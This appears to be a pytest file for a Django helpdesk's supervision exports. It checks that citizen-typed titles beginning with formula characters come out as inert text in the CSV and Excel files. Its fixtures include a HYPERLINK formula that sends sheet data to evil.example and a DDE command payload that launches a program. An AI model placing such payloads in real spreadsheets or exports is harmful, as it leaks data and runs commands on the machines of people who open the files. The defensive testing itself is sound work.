"""Spreadsheet formula injection (issue 12, observation 2).

A citizen's words reach the supervision exports. A title such as ``=HYPERLINK(...)`` must open
as the text the citizen typed, never as a live formula that leaks the sheet or calls out.
"""

import csv
import io
import itertools

import openpyxl
import pytest
from django.urls import reverse

from helpdesk import clock
from helpdesk.supervision.exports import Column, Table, csv_response, xlsx_bytes
from tests.factories import make_question

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?c="&A2,"Xem")'
DANGEROUS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def export(client, fmt):
    return client.get(
        reverse("supervision:questions_export", args=[fmt]),
        {"period": clock.today().strftime("%Y-%m"), "measure": "received"},
    )


def csv_rows(response):
    """The table's rows: up to the blank line before the lines that say when it was made."""
    raw = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(itertools.takewhile(bool, csv.reader(io.StringIO(raw))))


def xlsx_rows(content):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows(min_row=2)]


def test_a_formula_title_is_text_in_the_excel_export(client, supervisor):
    make_question(title=HYPERLINK, name="", email="", phone="")
    client.force_login(supervisor)

    [row] = xlsx_rows(export(client, "xlsx").content)

    title = row[1]
    assert title.data_type == "s"
    assert title.value == HYPERLINK


def test_a_formula_title_is_quoted_in_the_csv_export(client, supervisor):
    make_question(title=HYPERLINK, name="", email="", phone="")
    client.force_login(supervisor)

    [_header, row] = csv_rows(export(client, "csv"))

    assert row[1] == "'" + HYPERLINK


TEXT_AND_NUMBER = (Column("text", "Text", "text"), Column("number", "Number", "int"))


@pytest.mark.parametrize("text", DANGEROUS)
def test_every_dangerous_first_character_is_neutralised_in_the_csv(text):
    table = Table(TEXT_AND_NUMBER, [[text, 1]], "t")

    [_header, row] = csv_rows(csv_response(table, "t.csv"))

    assert row[0] == "'" + text


@pytest.mark.parametrize("text", DANGEROUS)
def test_every_dangerous_first_character_is_a_string_cell_in_excel(text):
    table = Table(TEXT_AND_NUMBER, [[text, 1]], "t")

    [[cell, _number]] = xlsx_rows(xlsx_bytes(table))

    assert cell.data_type == "s"
    # XML reads a carriage return back as a line feed; the text is otherwise the citizen's.
    assert cell.value.lstrip() == text.lstrip()


def test_a_negative_number_stays_a_number_in_both_exports():
    table = Table(TEXT_AND_NUMBER, [["ordinary", -3]], "t")

    [[_text, number]] = xlsx_rows(xlsx_bytes(table))
    [_header, row] = csv_rows(csv_response(table, "t.csv"))

    assert number.data_type == "n" and number.value == -3
    assert row[1] == "-3"


def test_ordinary_text_is_written_unchanged():
    table = Table(TEXT_AND_NUMBER, [["Thủ tục – đất đai", 1]], "t")

    [[text, _number]] = xlsx_rows(xlsx_bytes(table))
    [_header, row] = csv_rows(csv_response(table, "t.csv"))

    assert text.value == row[0] == "Thủ tục – đất đai"
